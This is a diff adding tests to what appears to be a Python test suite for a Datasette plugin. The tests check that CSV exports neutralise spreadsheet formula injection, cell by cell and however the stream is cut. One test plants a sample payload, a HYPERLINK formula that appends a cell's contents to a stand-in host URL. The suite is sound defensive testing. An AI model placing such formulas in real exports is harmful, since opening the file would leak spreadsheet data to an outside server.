@@ -3,18 +3,25 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import re
 import subprocess
+from itertools import pairwise
 from pathlib import Path
 from typing import Any
 
 import pytest
 from datasette.app import Datasette
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlite_utils import Database
 
 from chaffinch import corpus
+from chaffinch.datasette_plugin.csv_cells import defusing
 from chaffinch.datasette_plugin.tables import _metadata
+from chaffinch.export import defused
 from chaffinch.schema import migrations
 from tests.conftest import SCRIPTS
 from tests.datasette.hostile import build
@@ -135,3 +142,52 @@ def test_a_corpus_that_is_empty_has_tables_and_queries(tmp_path: Path) -> None:
         corpus.open_writer(path).conn.close()
     pages = (*_metadata()["queries"], *(name for name, about in _metadata()["tables"].items() if "hidden" not in about))
     assert {answer.status_code for answer in get(path, *(f"/corpus/{page}" for page in pages))} == {200}
+
+
+# ---- CSV ----
+
+CELLS = st.one_of(st.text("=+-@\t\r\n\"',; 1.e＝a\0", max_size=6), st.text(max_size=4), st.just("=" * 200_000))
+
+
+@given(st.lists(st.lists(CELLS, min_size=1, max_size=3), max_size=4), st.lists(st.integers(0, 60), max_size=5))
+def test_csv_is_defused_cell_by_cell_however_it_is_cut(rows: list[list[str]], cuts: list[int]) -> None:
+    written = io.StringIO(newline="")
+    csv.writer(written).writerows(rows)
+    data = written.getvalue().encode("utf-8")
+    places = [0, *sorted(min(cut, len(data)) for cut in cuts), len(data)]
+    feed = defusing()
+    pieces = [feed(data[start:end], False) for start, end in pairwise(places)]
+    answer = (b"".join(pieces) + feed(b"", True)).decode("utf-8")
+    former = csv.field_size_limit(1 << 20)
+    try:
+        found = list(csv.reader(io.StringIO(answer, newline="")))
+    finally:
+        csv.field_size_limit(former)
+    assert len(found) == len(rows)
+    for row, cells in zip(rows, found, strict=True):
+        for cell, shown in zip(row, cells, strict=True):
+            is_number = re.fullmatch(r"-?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?", cell)
+            assert shown == (cell if is_number else defused(cell))
+
+
+def test_csv_of_a_corpus_runs_nothing_in_a_spreadsheet(tmp_path: Path) -> None:
+    path = tmp_path / "corpus.db"
+    build(path)
+    formula = '=HYPERLINK("http://elsewhere.test/"&A1)\n@x'
+    with Database(path).conn as connection:
+        connection.execute("UPDATE removed SET text = ? WHERE article_id = 1", (formula,))
+        connection.execute("UPDATE articles SET simhash = -5 WHERE id = 1")
+    (table, streamed, row, query, text) = get(
+        path, "/corpus/removed.csv", "/corpus/removed.csv?_stream=on&_labels=on&_dl=1",
+        "/corpus/articles.csv?_col=simhash&id=1", "/corpus.csv?sql=select+'@a'+as+a,'b'+as+'=b'", "/corpus/removed",
+    )  # fmt: skip
+    for answer in (table, streamed):
+        rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
+        assert {row["text"] for row in rows if row["article_id"] == "1"} == {f"'{formula}"}
+        assert len(rows) == 8
+    assert row.text.splitlines()[1] == "1,-5"
+    assert query.text.splitlines() == ["a,'=b", "'@a,b"]
+    assert "HYPERLINK" in text.text
+    other = tmp_path / "other.db"
+    Database(other).table("t").insert({"a": "=1+1"})
+    assert get(other, "/other/t.csv")[0].text.splitlines()[1] == "1,=1+1"
